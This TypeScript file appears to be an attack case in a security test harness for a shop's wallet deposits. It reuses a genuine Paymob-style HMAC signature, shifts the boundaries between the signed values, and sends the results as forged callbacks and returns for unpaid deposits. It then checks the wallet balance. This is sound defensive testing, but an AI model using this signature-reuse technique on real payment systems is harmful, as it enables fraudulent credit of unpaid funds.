import { signedNames } from '#shop/payments/paymob-signature.ts';
import { first, tokenOf } from '../../bench/prepare.ts';
import type { Attack } from '../attack.ts';
import { mapConcurrently, tally } from '../attack.ts';
import { call, type Shops } from '../shops.ts';

/** The value as a careless parser reads it: JSON types where the text allows. */
const typed = (text: string): unknown =>
  text === 'true' || text === 'false' ? text === 'true' : /^-?\d{1,15}$/.test(text) ? Number(text) : text;

/** A callback's body with these values, and a reference of the attacker's choice: the reference is not signed. */
function bodyOf(values: readonly string[], reference: string, convert: (text: string) => unknown) {
  const at = Object.fromEntries(signedNames.map((name, nth) => [name, convert(values[nth]!)]));
  const { 'order.id': orderId, 'source_data.pan': pan, 'source_data.sub_type': sub, 'source_data.type': type } = at;
  return {
    type: 'TRANSACTION',
    obj: {
      ...at,
      order: { id: orderId, merchant_order_id: reference },
      source_data: { pan, sub_type: sub, type },
      is_void: false,
      is_refund: false,
    },
  };
}

/** Every split that moves up to `most` characters over one border, and every pair of such splits that moves one. */
function recuts(values: readonly string[], most: number): string[][] {
  const moved = (from: readonly string[], border: number, count: number): string[] | null => {
    const [left, right] = [from[border]!, from[border + 1]!];
    const cut = left.length + count;
    if (cut < 0 || cut > left.length + right.length) return null;
    const joined = left + right;
    return from.with(border, joined.slice(0, cut)).with(border + 1, joined.slice(cut));
  };
  const borders = values.slice(1).map((_, nth) => nth);
  const counts = Array.from({ length: most }, (_, nth) => [nth + 1, -nth - 1]).flat();
  const single = borders.flatMap((border) => counts.map((count) => moved(values, border, count)));
  const pairs = borders.flatMap((one) =>
    borders
      .filter((other) => other > one)
      .flatMap((other) => [1, -1].map((count) => moved(moved(values, one, 3) ?? values, other, count))),
  );
  return [...single, ...pairs].filter((cut) => cut !== null);
}

async function openDeposit(
  { instances: [{ base }] }: Shops,
  token: string,
  amount: number,
): Promise<{ url: URL; reference: string }> {
  const { body } = await call(base, '/wallet/deposit', { token, body: { amount, payment_method: 'credit_card' } });
  const { payment } = (body as { data: { payment: { url: string } } }).data;
  const url = new URL(payment.url);
  return { url, reference: url.pathname.split('/').at(-1)! };
}

/**
 * A shopper pays a deposit of 10 EGP and reuses the gateway's own signature: the joined values are split differently and sent as callbacks for
 * deposits whose page was never opened, with the amounts of the new splits. Only the 10 EGP may be in the wallet.
 */
export const forgedCallbacks: Attack = {
  name: 'forged and re-cut callbacks',
  async run(shops, size) {
    const buyer = shops.nextBuyer();
    const token = tokenOf(buyer);
    const paid = await openDeposit(shops, token, 10);
    // 1000 piastres followed by the first digits of the year.
    const recutAmount = Number(`1000${String(new Date().getUTCFullYear()).slice(0, 3)}`) / 100;
    const target = await openDeposit(shops, token, recutAmount);
    const opened = await openDeposit(shops, token, recutAmount);
    const [{ base }] = shops.instances;
    const cookie = { Cookie: `auth._token.local=${encodeURIComponent(token)}` };
    const follow = async (url: URL) => {
      const reply = await fetch(base + url.pathname + url.search, { redirect: 'manual', headers: cookie });
      return new URL(reply.headers.get('location') ?? '/none', base);
    };
    await follow(opened.url);
    const page = await follow(paid.url);
    const form = new URLSearchParams({
      ...Object.fromEntries(page.searchParams),
      choice: 'approve',
      callback: 'never',
    });
    const approved = await fetch(base + page.pathname, { method: 'POST', body: form, redirect: 'manual' });
    const back = new URL(approved.headers.get('location')!);
    const query = back.searchParams;
    const signature = query.get('hmac')!;
    const values = signedNames.map((name) => (name === 'order.id' ? query.get('order') : query.get(name)) ?? '');

    const cuts = [values, ...recuts(values, size === 'short' ? 4 : 24)];
    const bodies = cuts.flatMap((cut) =>
      [target.reference, opened.reference].flatMap((reference) => [
        bodyOf(cut, reference, typed),
        bodyOf(cut, reference, String),
      ]),
    );
    const statuses = await mapConcurrently(bodies, 8, async (body, nth) => {
      const { base: instance } = shops.instances[nth % 2]!;
      return (await call(instance, `/payments/sandbox/callback?hmac=${signature}`, { body })).status;
    });
    // Also as the return of a browser.
    const returns = await mapConcurrently(cuts.slice(0, 60), 4, async (cut) => {
      const address = new URL(back);
      for (const [nth, name] of signedNames.entries())
        address.searchParams.set(name === 'order.id' ? 'order' : name, cut[nth]!);
      address.searchParams.set('merchant_order_id', target.reference);
      return (await fetch(base + address.pathname + address.search, { redirect: 'manual', headers: cookie })).status;
    });
    // The shopper returns from the gateway normally: this deposit is theirs.
    await fetch(base + back.pathname + back.search, { redirect: 'manual', headers: cookie });
    const [wallet] = await shops.database.query<{ balance: number }>(
      'select coalesce(sum(amount), 0)::integer balance from wallet_entries where user_id = $1',
      [first.user + buyer],
    );
    const balance = wallet?.balance ?? 0;
    return {
      tried: bodies.length + returns.length,
      refused: statuses.filter((status) => status === 401).length,
      lost:
        (balance === 1000 ? 0 : 1) + [...statuses, ...returns].filter((status) => status >= 500 || status === 0).length,
      notes: [
        `callbacks ${tally(statuses)}; returns ${tally(returns)}`,
        `paid 10.00 EGP, in the wallet ${(balance / 100).toFixed(2)} EGP`,
      ],
    };
  },
};
